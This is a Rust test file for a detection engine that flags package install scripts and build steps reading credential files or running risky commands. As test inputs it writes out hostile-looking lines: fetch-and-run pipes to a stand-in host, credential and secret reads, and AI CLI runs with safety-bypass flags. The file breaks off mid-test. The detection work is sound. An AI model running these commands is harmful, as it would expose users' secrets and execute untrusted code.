use std::collections::BTreeMap;

use super::{
    process::{AT_FDCWD, MAX_PROCESSES},
    *,
};
use crate::{
    alert::{AlertSyscall, Severity},
    event::{Exec, Exit, Fork, Open, Rename, Root, Syscall},
};

mod agent_tools;
mod blind;
mod paths;

/// Drives an engine over the default rules with hand-written events.
struct Run {
    engine: Engine,
    time_ns: u64,
    alerts: Vec<Alert>,
}

impl Run {
    fn new() -> Run {
        Run::with(EngineOptions::default())
    }

    fn with(options: EngineOptions) -> Run {
        let rules = RuleSet::defaults().unwrap();
        Run {
            engine: Engine::new(rules, EngineOptions { host_name: "box".into(), ..options }),
            time_ns: 1_700_000_000_000_000_000,
            alerts: Vec::new(),
        }
    }

    fn send(&mut self, pid: u32, data: EventData) -> &mut Run {
        self.time_ns += 1_000;
        let alerts = self.engine.handle(&Event { time_ns: self.time_ns, pid, data });
        self.alerts.extend(alerts);
        self
    }

    fn exec_full(
        &mut self,
        pid: u32,
        ppid: u32,
        file: &str,
        args: &[&str],
        cwd: &str,
        env: &[(&str, &str)],
    ) -> &mut Run {
        let env: BTreeMap<String, String> = env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect();
        self.send(
            pid,
            EventData::Exec(Exec {
                ppid,
                filename: file.into(),
                executable: file.into(),
                args: args.iter().map(|a| (*a).to_owned()).collect(),
                cwd: cwd.into(),
                uid: 1000,
                gid: 1000,
                env,
                ..Exec::default()
            }),
        )
    }

    fn exec(&mut self, pid: u32, ppid: u32, args: &[&str], env: &[(&str, &str)]) -> &mut Run {
        self.exec_full(pid, ppid, args[0], args, "/home/alice/app", env)
    }

    fn fork(&mut self, pid: u32, child: u32) -> &mut Run {
        self.send(pid, EventData::Fork(Fork { child_pid: child }))
    }

    fn spawn(&mut self, pid: u32, ppid: u32, args: &[&str], env: &[(&str, &str)]) -> &mut Run {
        self.fork(ppid, pid).exec(pid, ppid, args, env)
    }

    fn exit(&mut self, pid: u32) -> &mut Run {
        self.send(pid, EventData::Exit(Exit { code: 0, repeats: 0 }))
    }

    fn open_full(&mut self, pid: u32, given: &str, abs: Option<&str>, ret: i64, flags: u64) -> &mut Run {
        self.send(
            pid,
            EventData::Open(Open {
                tid: pid,
                syscall: "openat".into(),
                dirfd: AT_FDCWD,
                flags,
                path: given.into(),
                abs_path: abs.map(str::to_owned),
                ret,
                ..Open::default()
            }),
        )
    }

    fn open(&mut self, pid: u32, path: &str) -> &mut Run {
        self.open_full(pid, path, Some(path), 3, 0o2000000)
    }

    /// What went out, once the clock has passed the window of every alert held for a
    /// configuration chain (it moves on by the longest window allowed).
    fn take(&mut self) -> Vec<Alert> {
        self.time_ns += crate::rules::schema::LOADER_WITHIN_MS_MAX * 1_000_000 + 1;
        let released = self.engine.tick(self.time_ns);
        self.alerts.extend(released);
        std::mem::take(&mut self.alerts)
    }

    fn one(&mut self) -> Alert {
        let mut alerts = self.take();
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        alerts.remove(0)
    }
}

const POSTINSTALL: &[(&str, &str)] =
    &[("npm_package_name", "evil-pkg"), ("npm_package_version", "1.2.3"), ("npm_lifecycle_event", "postinstall")];

#[test]
fn npm_postinstall_is_attributed_from_the_environment() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "node telemetry.js"], POSTINSTALL)
        .spawn(102, 101, &["node", "telemetry.js"], &[])
        .open(102, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!(alert.rule.id, "npm-registry-token");
    assert_eq!(alert.rule.severity, Severity::High);
    assert_eq!(alert.package.manager, "npm");
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
    assert_eq!(alert.package.version.as_deref(), Some("1.2.3"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("postinstall"));
    assert_eq!(alert.process.pid, 102);
    assert_eq!(alert.process.parent.pid, 101);
    let ancestors: Vec<u32> = alert.process.ancestors.iter().map(|a| a.pid).collect();
    assert_eq!(ancestors, [100, 101]);
    assert_eq!(alert.process.ancestors[0].args, ["npm", "install"]);
    assert_eq!(alert.credwatch.root_pid, 100);
    assert_eq!(alert.credwatch.enforcement, "userspace");
    assert!(!alert.credwatch.rotate.is_empty());
    assert_eq!(alert.file.as_ref().unwrap().flags, "O_RDONLY|O_CLOEXEC");
    assert_eq!(alert.host.name, "box");
    assert_eq!(alert.user.id, 1000);
}

#[test]
fn cargo_build_script_is_attributed_from_its_path() {
    let script = "/home/alice/w/target/debug/build/proc-macro1-9f8e7d6c5b4a3921/build-script-build";
    let mut run = Run::new();
    run.exec(300, 1, &["cargo", "build"], &[])
        .fork(300, 301)
        .exec_full(301, 300, script, &[script], "/home/alice/w", &[("CARGO_PKG_VERSION", "0.2.0")])
        .spawn(302, 301, &["/tmp/rust-setup", "23.254.165.112:443"], &[])
        .open(302, "/home/alice/.cargo/credentials.toml");
    let alert = run.one();
    assert_eq!(alert.rule.id, "cargo-registry-token");
    assert_eq!(alert.package.manager, "cargo");
    assert_eq!(alert.package.name.as_deref(), Some("proc-macro1"));
    assert_eq!(alert.package.version.as_deref(), Some("0.2.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("build-script"));
    // cargo itself reading its credentials is its job.
    run.open(300, "/home/alice/.cargo/credentials.toml");
    assert!(run.take().is_empty());
}

#[test]
fn proc_macro_is_named_from_rustc_arguments_and_opens() {
    let mut run = Run::new();
    let deps = "/home/alice/w/target/debug/deps";
    let serde = format!("serde_derive={deps}/libserde_derive-11aa.so");
    let evil = format!("evil_macro={deps}/libevil_macro-22bb.so");
    let lib = format!("log={deps}/liblog-33cc.rlib");
    run.exec(300, 1, &["cargo", "build"], &[])
        .spawn(
            301,
            300,
            &[
                "rustc",
                "--crate-name",
                "app",
                "--edition=2021",
                "--extern",
                &serde,
                "--extern",
                &evil,
                "--extern",
                &lib,
            ],
            &[("CARGO_PKG_NAME", "app"), ("CARGO_PKG_VERSION", "0.1.0")],
        )
        .open(301, &format!("{deps}/libevil_macro-22bb.so"))
        .open(301, "/home/alice/.aws/credentials");
    let alert = run.one();
    assert_eq!(alert.rule.id, "aws-credentials");
    assert_eq!(alert.package.name.as_deref(), Some("evil_macro"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("proc-macro"));

    // Without a proc-macro .so seen, rustc names the crate it compiles.
    run.spawn(
        302,
        300,
        &["rustc", "--crate-name", "lib2", "--extern", &serde, "--extern", &evil],
        &[("CARGO_PKG_VERSION", "0.3.0")],
    )
    .open(302, "/home/alice/.aws/config");
    let alert = run.one();
    assert_eq!(alert.package.name.as_deref(), Some("lib2"));
    assert_eq!(alert.package.version.as_deref(), Some("0.3.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("proc-macro"));
}

#[test]
fn pip_sdist_is_named_from_the_archive_and_setup_py() {
    let mut run = Run::new();
    run.exec(200, 1, &["pip", "install", "./evil-1.0.tar.gz"], &[])
        .spawn(
            201,
            200,
            &[
                "/usr/bin/python3",
                "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py",
                "build_wheel",
                "/tmp/tmpx",
            ],
            &[],
        )
        .open(201, "/tmp/pip-req-build-abc/setup.py")
        .open(201, "/home/alice/.pypirc");
    let alert = run.one();
    assert_eq!(alert.rule.id, "pypi-token");
    assert_eq!(alert.package.manager, "pip");
    assert_eq!(alert.package.name.as_deref(), Some("evil"));
    assert_eq!(alert.package.version.as_deref(), Some("1.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("setup.py"));

    // From an index: pip's build directory names the package.
    run.exec(210, 1, &["python3", "-m", "pip", "install", "evil2"], &[])
        .fork(210, 211)
        .exec_full(
            211,
            210,
            "/usr/bin/python3",
            &["python3", "_in_process.py", "get_requires_for_build_wheel"],
            "/tmp/pip-install-q1w2/evil2_0f1e2d3c",
            &[],
        )
        .open(211, "/home/alice/.pypirc");
    let alert = run.one();
    assert_eq!(alert.package.name.as_deref(), Some("evil2"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("build-backend"));
}

#[test]
fn lineage_survives_double_fork_setsid_and_the_managers_exit() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(
            101,
            100,
            &["sh", "-c", "node setup.js"],
            &[("npm_package_name", "worm"), ("npm_lifecycle_event", "preinstall")],
        )
        .spawn(102, 101, &["node", "setup.js"], &[])
        .fork(102, 103)
        .fork(103, 104)
        // The middle child exits (104 is reparented to init: no event), 104 calls setsid
        // (no event either), then everyone above it exits.
        .exit(103)
        .exit(102)
        .exit(101)
        .exit(100);
    assert_eq!(run.engine.live_tree(100).iter().map(|(pid, _)| *pid).collect::<Vec<_>>(), [104]);
    run.open(104, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    assert_eq!(alert.rule.severity, Severity::Critical);
    assert_eq!(alert.package.name.as_deref(), Some("worm"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("preinstall"));
    assert_eq!(alert.process.ancestors.iter().map(|a| a.pid).collect::<Vec<_>>(), [100, 101, 102, 103]);
    assert_eq!(alert.process.parent.pid, 103);
    // Once the last member exits, nothing of the tree is kept.
    run.exit(104);
    assert_eq!(run.engine.stats().processes, 0);
    assert!(run.engine.live_tree(100).is_empty());
}

#[test]
fn homes_are_root_home_star_and_the_process_home() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[("HOME", "/tmp/xyz/home")])
        .spawn(101, 100, &["node", "x.js"], POSTINSTALL)
        .open(101, "/root/.npmrc")
        .open(101, "/home/alice/.npmrc")
        .open(101, "/tmp/xyz/home/.ssh/id_ed25519")
        .open(101, "/tmp/other/home/.ssh/id_ed25519");
    let mut paths: Vec<String> = run.take().into_iter().map(|a| a.file.unwrap().path).collect();
    // (Sorted: a read of npm's configuration chain goes out when its window closes.)
    paths.sort();
    assert_eq!(paths, ["/home/alice/.npmrc", "/root/.npmrc", "/tmp/xyz/home/.ssh/id_ed25519"]);
}

#[test]
fn unrelated_processes_failed_opens_and_o_path_do_not_alert() {
    let mut run = Run::new();
    run.exec(50, 1, &["bash"], &[]).open(50, "/home/alice/.ssh/id_ed25519");
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run.open_full(101, "/home/alice/.aws/credentials", None, -2, 0);
    run.open_full(101, "/home/alice/.aws/credentials", Some("/home/alice/.aws/credentials"), 3, libc::O_PATH as u64);
    assert!(run.take().is_empty());
    assert_eq!(run.engine.stats().events, 7);
}

/// `run --contain`'s read-only home refuses the write with EROFS: the attempt alerts as the
/// write would have, and a refused read-only open (a probe) stays quiet.
#[test]
fn a_write_a_read_only_mount_refused_alerts() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    let (append, erofs) = ((libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND) as u64, -i64::from(libc::EROFS));
    run.open_full(101, "/home/alice/.bashrc", None, erofs, append);
    run.open_full(101, "/home/alice/.zshrc", None, erofs, libc::O_RDONLY as u64);
    run.open_full(101, "/home/alice/.profile", None, -i64::from(libc::EACCES), append);
    let alerts = run.take();
    let seen: Vec<(&str, &str)> =
        alerts.iter().map(|a| (a.rule.id.as_str(), a.file.as_ref().unwrap().path.as_str())).collect();
    assert_eq!(seen, [("shell-rc-write", "/home/alice/.bashrc")]);
    // Said as refused, with nothing to undo.
    let alert = &alerts[0];
    assert_eq!((alert.event.outcome.as_str(), alert.credwatch.enforcement.as_str()), ("denied", "read-only-mount"));
    assert!(alert.credwatch.rotate.is_empty(), "{:?}", alert.credwatch.rotate);
    let text = crate::output::render(alert, false);
    assert!(text.contains("refused: the file system is read-only") && !text.contains("was not blocked"), "{text}");
}

#[test]
fn opens_the_kernel_counted_rather_than_sent_weigh_in_the_alert_count() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    let counted = |run: &mut Run, repeats: u64| {
        let path = "/home/alice/.npmrc";
        run.send(
            101,
            EventData::Open(Open {
                path: path.into(),
                abs_path: Some(path.into()),
                ret: 3,
                repeats,
                ..Open::default()
            }),
        );
    };
    // The first record of a key is sent at once; the next, a window later, carries the 29,999
    // opens the kernel counted in between, and is told again with the sum: 1 + 1 + 29,999.
    counted(&mut run, 0);
    counted(&mut run, 29_999);
    // Past no further power of ten: folded, and counted in the repeats.
    counted(&mut run, 9);
    let counts: Vec<Option<u64>> = run.take().iter().map(|a| a.credwatch.count).collect();
    assert_eq!(counts, [None, Some(30_001)]);
    assert_eq!(run.engine.stats().repeats, 10);
    assert!(!super::alerts::passes_power_of_ten(u64::MAX - 1, u64::MAX));
}

#[test]
fn same_rule_tree_and_file_alert_once_then_at_powers_of_ten() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run.open(101, "/home/alice/.aws/credentials").open(101, "/home/alice/.aws/credentials");
    run.open(101, "/home/alice/.aws/config");
    // Another process of the same tree, same file: a repeat.
    run.spawn(102, 101, &["cat", "/home/alice/.aws/credentials"], &[]).open(102, "/home/alice/.aws/credentials");
    let alerts = run.take();
    let seen: Vec<(u32, &str, Option<u64>)> =
        alerts.iter().map(|a| (a.process.pid, a.file.as_ref().unwrap().path.as_str(), a.credwatch.count)).collect();
    assert_eq!(seen, [(101, "/home/alice/.aws/credentials", None), (101, "/home/alice/.aws/config", None)]);
    assert_eq!((run.engine.stats().alerts, run.engine.stats().repeats), (2, 2));
    // The 10th and the 100th time are told, with the count.
    for _ in 0..97 {
        run.open(102, "/home/alice/.aws/credentials");
    }
    let counts: Vec<Option<u64>> = run.take().iter().map(|a| a.credwatch.count).collect();
    assert_eq!(counts, [Some(10), Some(100)]);
    assert_eq!(run.engine.stats().repeats, 97);
    // Another tree reading the same file alerts on its own.
    run.exec(200, 1, &["npm", "install"], &[]).spawn(201, 200, &["node", "x.js"], POSTINSTALL);
    run.open(201, "/home/alice/.aws/credentials");
    assert_eq!(run.one().credwatch.count, None);
    // Nothing was folded and no sweep is pending.
    assert!(run.engine.flush().is_empty());
}

#[test]
fn actors_allow_the_manager_and_lower_git_under_it() {
    let mut run = Run::new();
    // npm is a script: /usr/bin/npm, then env runs node /usr/bin/npm in the same process.
    run.exec_full(100, 1, "/usr/bin/npm", &["/usr/bin/env", "node", "/usr/bin/npm", "install"], "/home/alice/app", &[])
        .exec_full(100, 1, "/usr/bin/node", &["node", "/usr/bin/npm", "install"], "/home/alice/app", &[])
        .open(100, "/home/alice/.npmrc")
        .open(100, "/home/alice/app/.npmrc");
    assert!(run.take().is_empty());

    // git and ssh that npm starts for a git dependency: reported at low severity.
    run.fork(100, 110)
        .exec_full(110, 100, "/usr/bin/git", &["git", "clone", "git@github.com:x/y.git"], "/tmp", &[])
        .fork(110, 111)
        .exec_full(111, 110, "/usr/bin/ssh", &["ssh", "git@github.com"], "/tmp", &[])
        .open(111, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("ssh-private-keys", Severity::Low));

    // The same ssh run by package code is not git under the manager.
    run.spawn(120, 100, &["sh", "-c", "ssh x"], POSTINSTALL)
        .fork(120, 121)
        .exec_full(121, 120, "/usr/bin/ssh", &["ssh", "x"], "/tmp", &[])
        .open(121, "/home/alice/.ssh/id_ed25519");
    assert_eq!(run.one().rule.severity, Severity::Critical);

    // `npm whoami` from a postinstall: the exec itself alerts, and as a nested manager its
    // read of ~/.npmrc is reported, low.
    run.spawn(130, 120, &["npm", "whoami"], POSTINSTALL);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str(), alert.file), ("npm-token-use", "exec", None));
    run.open(130, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::Low));
    assert_eq!(alert.process.ancestors.iter().map(|a| a.pid).collect::<Vec<_>>(), [100, 120]);
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
}

#[test]
fn run_roots_and_nested_managers() {
    let mut run = Run::new();
    run.send(500, EventData::Root(Root { reason: "run".into() }))
        .exec(500, 400, &["sh", "-c", "make"], &[])
        .spawn(501, 500, &["cat", "/home/alice/.vault-token"], &[])
        .open(501, "/home/alice/.vault-token");
    let alert = run.one();
    assert_eq!((alert.package.manager.as_str(), alert.credwatch.root_pid), ("run", 500));
    assert_eq!(alert.package.name, None);

    // A manager inside a run tree keeps the outer root but becomes the nearest manager.
    run.spawn(502, 500, &["cargo", "build"], &[]).open(502, "/home/alice/.cargo/credentials.toml");
    assert!(run.take().is_empty(), "cargo started by CMD is an outermost manager");
    run.spawn(503, 502, &["/home/alice/w/target/release/build/x-0011223344556677/build-script-build"], &[])
        .open(503, "/home/alice/.pgpass");
    let alert = run.one();
    assert_eq!((alert.package.manager.as_str(), alert.credwatch.root_pid), ("cargo", 500));
    assert_eq!(alert.package.name.as_deref(), Some("x"));
    assert_eq!(alert.process.ancestors.iter().map(|a| a.pid).collect::<Vec<_>>(), [500, 502]);
}

#[test]
fn proc_environ_of_self_is_fine_of_others_is_not() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run.open_full(101, "/proc/self/environ", Some("/proc/101/environ"), 3, 0);
    run.open_full(101, "/proc/thread-self/environ", Some("/proc/101/task/101/environ"), 3, 0);
    assert!(run.take().is_empty());
    run.open(101, "/proc/100/environ");
    assert_eq!(run.one().rule.id, "proc-environ-mem");
}

#[test]
fn relative_paths_without_a_kernel_path_resolve_against_cwd() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .fork(100, 101)
        .exec_full(101, 100, "node", &["node", "x.js"], "/home/alice/.ssh", POSTINSTALL)
        .open_full(101, "./keys/../id_rsa", None, 3, 0);
    let file = run.one().file.unwrap();
    assert_eq!((file.path.as_str(), file.given_path.as_str()), ("/home/alice/.ssh/id_rsa", "./keys/../id_rsa"));
}

#[test]
fn a_reused_pid_is_a_new_process() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL).exit(101);
    // pid 101 comes back as an unrelated process (its exec names a parent outside the tree).
    run.exec(101, 1, &["bash"], &[]).open(101, "/home/alice/.ssh/id_rsa");
    assert!(run.take().is_empty());
    run.exit(100);
    assert_eq!(run.engine.stats().processes, 0);
}

#[test]
fn lost_events_are_counted() {
    let mut run = Run::new();
    run.send(0, EventData::Lost(crate::event::Lost { source: "events".into(), count: 7 }));
    assert_eq!(run.engine.stats().lost, 7);
}

#[test]
fn alerts_on_events_of_an_agent_gap_say_how_long_it_was_down() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["sh", "-c", "x"], POSTINSTALL);
    let down = run.time_ns + 1_000_000_000;
    let read_meanwhile = down + 500_000_000;
    let up = down + 2_500_000_000;
    let gap = crate::event::AgentGap { since_ns: down, clean_stop: false, stopped: false };
    // As the restarted agent sends them: the gap first (the tree was live in it: its own
    // alert), then what waited in the kernel.
    let told = run.engine.handle(&Event { time_ns: up, pid: 0, data: EventData::AgentGap(gap) });
    assert_eq!(told.iter().map(|a| a.rule.id.as_str()).collect::<Vec<_>>(), ["blind-spot-gap"]);
    let open = |path: &str| {
        let abs_path = Some(path.to_owned());
        EventData::Open(Open {
            tid: 101,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: path.into(),
            abs_path,
            ret: 3,
            ..Open::default()
        })
    };
    let during = run.engine.handle(&Event { time_ns: read_meanwhile, pid: 101, data: open("/home/alice/.ssh/id_rsa") });
    let gap = during[0].credwatch.gap.as_ref().expect("the alert of the gap says so");
    assert_eq!((gap.seconds, gap.clean_stop), (2.5, false));
    assert_eq!(gap.down_from, crate::alert::rfc3339(down));
    assert_eq!(gap.down_to, crate::alert::rfc3339(up));
    let after = run.engine.handle(&Event { time_ns: up + 1, pid: 101, data: open("/home/alice/.aws/credentials") });
    assert!(!after.is_empty() && after.iter().all(|alert| alert.credwatch.gap.is_none()), "{after:#?}");
}

#[test]
fn live_tree_describes_members_escaped() {
    let mut run = Run::new();
    run.exec_full(100, 1, "/usr/bin/npm", &["npm", "install"], "/home/alice/app", &[]).fork(100, 101).exec_full(
        101,
        100,
        "/usr/bin/node",
        &["node", "-e", "a\x1b[2Jb"],
        "/home/alice/app",
        &[],
    );
    let described = [(100, "/usr/bin/npm install".to_owned()), (101, "/usr/bin/node -e a\\u{1b}[2Jb".to_owned())];
    assert_eq!(run.engine.live_tree(100), described);
}

#[test]
fn flags_are_symbolic() {
    assert_eq!(open_flags(0), "O_RDONLY");
    assert_eq!(
        open_flags((libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC) as u64),
        "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"
    );
    assert_eq!(open_flags(libc::O_RDWR as u64 | 1 << 40), "O_RDWR|0x10000000000");
}

#[test]
fn alert_json_has_every_contract_field() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["node", "x.js"], POSTINSTALL)
        .open(101, "/home/alice/.npmrc");
    let json = serde_json::to_value(run.one()).unwrap();
    for pointer in [
        "/@timestamp",
        "/event/id",
        "/event/kind",
        "/rule/id",
        "/rule/name",
        "/rule/category",
        "/rule/severity",
        "/process/pid",
        "/process/executable",
        "/process/args",
        "/process/working_directory",
        "/process/parent/pid",
        "/process/ancestors/0/pid",
        "/process/ancestors/0/executable",
        "/process/ancestors/0/args",
        "/file/path",
        "/file/given_path",
        "/file/flags",
        "/package/manager",
        "/package/name",
        "/package/version",
        "/package/lifecycle",
        "/host/name",
        "/user/id",
        "/credwatch/rotate",
        "/credwatch/enforcement",
        "/credwatch/root_pid",
    ] {
        assert!(json.pointer(pointer).is_some(), "{pointer} missing in {json}");
    }
    assert_eq!(json["event"]["kind"], "alert");
    assert_eq!(json["rule"]["severity"], "high");
    assert_eq!(json["@timestamp"], "2023-11-14T22:13:20.000004Z");
    assert!(json["process"]["args"].is_array());
}

#[test]
fn alert_ids_are_stable_for_the_same_alert_and_differ_between_alerts() {
    let alerts = |runs: usize| {
        let mut run = Run::new();
        run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
        for _ in 0..runs {
            run.open(101, "/home/alice/.npmrc");
        }
        let mut alerts = run.take();
        run.open(101, "/home/alice/.aws/credentials");
        alerts.extend(run.take());
        alerts
    };
    // The same events give the same ids (a replay, a restarted agent re-raising them).
    let (first, again) = (alerts(10), alerts(10));
    let ids: Vec<&str> = first.iter().map(|a| a.event.id.as_str()).collect();
    assert_eq!(ids, again.iter().map(|a| a.event.id.as_str()).collect::<Vec<_>>());
    // The first alert, its 10th repeat and another file: three ids, each 32 hex digits.
    assert_eq!(first.iter().map(|a| a.credwatch.count).collect::<Vec<_>>(), [None, Some(10), None]);
    assert!(ids.iter().all(|id| id.len() == 32 && id.chars().all(|c| c.is_ascii_hexdigit())), "{ids:?}");
    assert_eq!(ids.iter().collect::<std::collections::BTreeSet<_>>().len(), 3, "{ids:?}");
    assert_eq!(first[0].event.id, first[0].stable_id());
    // Another host: another id for the same event.
    let mut other = first[0].clone();
    other.host.name = "other".into();
    assert_ne!(other.stable_id(), first[0].event.id);
}

#[test]
fn a_binary_named_like_a_manager_gets_no_pass_when_nested() {
    let mut run = Run::new();
    run.exec(300, 7, &["cargo", "fetch"], &[]).open(300, "/home/alice/.ssh/known_hosts");
    let alert = run.one();
    assert_eq!((alert.rule.severity, alert.process.parent.pid), (Severity::Low, 7));
    assert!(alert.process.ancestors.is_empty());

    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "./bin/cargo"], POSTINSTALL)
        .spawn(102, 101, &["./bin/cargo"], &[])
        .open(102, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!((alert.rule.severity, alert.package.manager.as_str()), (Severity::Critical, "cargo"));
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
    // The manager itself reading a target no actor covers alerts too.
    run.open(100, "/home/alice/.aws/credentials");
    assert_eq!(run.one().process.ancestors.len(), 0);
}

#[test]
fn a_full_table_drops_its_oldest_entries() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]);
    // A chain of forks whose exits were lost.
    let mut parent = 100;
    for child in 1000..1000 + MAX_PROCESSES as u32 + 10 {
        run.fork(parent, child);
        parent = child;
    }
    let stats = run.engine.stats();
    assert_eq!((stats.processes, stats.evicted), (MAX_PROCESSES, 11));
    // The newest still alerts, with the ancestors that are left; the oldest are forgotten.
    run.open(parent, "/home/alice/.vault-token");
    let alert = run.one();
    assert_eq!(alert.process.ancestors.len(), MAX_PROCESSES - 1);
    assert_eq!(alert.process.ancestors[0].pid, 1010);
    run.open(1009, "/home/alice/.vault-token");
    assert!(run.take().is_empty());
}

/// A tree at `npm install` (100) → postinstall shell (101) → `node x.js` (102).
fn npm_tree() -> Run {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["sh", "-c", "node x.js"], POSTINSTALL).spawn(
        102,
        101,
        &["node", "x.js"],
        &[],
    );
    run
}

fn write_flags() -> u64 {
    (libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC) as u64
}

fn rename(run: &mut Run, pid: u32, syscall: &str, old: &str, new: &str) {
    run.send(
        pid,
        EventData::Rename(Rename {
            tid: pid,
            syscall: syscall.into(),
            old_path: old.into(),
            new_path: new.into(),
            old_abs: Some(old.into()),
            new_abs: Some(new.into()),
            ret: 0,
        }),
    );
}

fn syscall(run: &mut Run, pid: u32, name: &str, operation: Option<&str>, target: Option<u32>, blocked: bool) {
    run.send(
        pid,
        EventData::Syscall(Syscall {
            tid: pid,
            name: name.into(),
            target_pid: target,
            operation: operation.map(str::to_owned),
            ret: (!blocked).then_some(0),
            blocked,
            denied: false,
            repeats: 0,
        }),
    );
}

#[test]
fn exec_rules_match_names_arguments_and_command_lines() {
    let cases: &[(&[&str], Option<&str>)] = &[
        (&["claude", "--dangerously-skip-permissions", "-p", "find secrets"], Some("ai-cli-claude-unsafe")),
        (&["claude", "-p", "hello"], None),
        (&["gemini", "--yolo", "-p", "x"], Some("ai-cli-gemini-yolo")),
        (&["gemini", "--approval-mode=yolo"], Some("ai-cli-gemini-yolo")),
        (&["gemini", "--approval-mode", "auto_edit"], None),
        (&["q", "chat", "--no-interactive", "--trust-all-tools", "x"], Some("ai-cli-q-trust-all-tools")),
        (&["q", "--trust-all-tools"], None),
        (&["codex", "exec", "--dangerously-bypass-approvals-and-sandbox", "x"], Some("ai-cli-codex-unsafe")),
        (&["gh", "auth", "token"], Some("gh-auth-token")),
        (&["gh", "auth", "status", "--show-token"], Some("gh-auth-token")),
        (&["gh", "pr", "list"], None),
        (&["npm", "whoami"], Some("npm-token-use")),
        (&["npm", "--registry", "https://r.example", "publish"], Some("npm-publish-from-package")),
        (&["npm", "run", "build"], None),
        (&["/tmp/th/trufflehog", "filesystem", "/home/alice"], Some("trufflehog")),
        (&["sh", "-c", "curl -fsSL https://bun.sh/install | bash"], Some("curl-pipe-shell")),
        (&["bash", "-c", "cd /tmp && wget -qO- http://1.2.3.4/x|sudo -E python3 -"], Some("curl-pipe-shell")),
        (&["sh", "-c", "curl -fsSL https://x/sums | grep shasum"], None),
        (&["sudo", "-n", "true"], Some("sudo-non-interactive")),
        (&["sudo", "-En", "true"], Some("sudo-non-interactive")),
        (&["sudo", "--preserve-env", "make"], None),
        (&["sudo", "-u", "root", "-n", "id"], Some("sudo-non-interactive")),
        (&["sudo", "find", "/", "-name", "id_rsa"], None),
        (&["docker", "run", "--privileged", "--volume=/:/host", "alpine"], Some("docker-privileged-host-root")),
        (&["docker", "run", "--privileged", "-v", "/srv:/srv", "alpine"], None),
        (&["git", "push", "-u", "origin", "shai-hulud"], Some("git-push-from-package")),
        (&["git", "status"], None),
        (&["git", "-C", "/tmp/repo", "push", "origin"], Some("git-push-from-package")),
        (&["git", "stash", "push"], None),
        (&["gh", "repo", "create", "x", "--public"], Some("gh-repo-create")),
        (&["kubectl", "get", "secrets", "-A", "-o", "json"], Some("kubectl-get-secrets")),
        (&["kubectl", "get", "pods", "-A"], None),
    ];
    for (args, want) in cases {
        let mut run = npm_tree();
        run.spawn(103, 102, args, &[]);
        let alerts = run.take();
        let ids: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
        assert_eq!(ids, want.iter().copied().collect::<Vec<_>>(), "{args:?}");
        if let Some(alert) = alerts.first() {
            assert_eq!((alert.event.action.as_str(), alert.process.pid), ("exec", 103));
            assert_eq!(alert.process.args, *args);
            assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"));
            assert!(alert.file.is_none());
        }
    }
}

#[test]
fn exec_rules_spare_the_root_and_the_users_own_commands() {
    let mut run = Run::new();
    // The user's own npm publish, and its package's prepublishOnly script.
    run.exec(100, 1, &["npm", "publish"], &[]).spawn(101, 100, &["sh", "-c", "tsc"], POSTINSTALL);
    // `credwatch run -- claude --dangerously-skip-permissions`: the user's choice.
    run.send(200, EventData::Root(Root { reason: "run".into() })).exec(
        200,
        1,
        &["claude", "--dangerously-skip-permissions"],
        &[],
    );
    // `credwatch run -- make release`: make's git push and npm publish are the user's.
    run.send(300, EventData::Root(Root { reason: "run".into() }))
